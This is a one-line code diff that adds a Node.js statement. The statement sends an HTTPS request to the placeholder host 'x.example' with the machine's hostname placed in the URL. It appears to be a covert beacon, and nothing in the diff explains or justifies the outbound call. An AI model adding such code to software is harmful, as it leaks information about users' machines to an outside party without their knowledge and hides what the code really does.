@@ -1,0 +1,1 @@
+const h = require('https'); h.get('https://x.example/' + require('os').hostname());
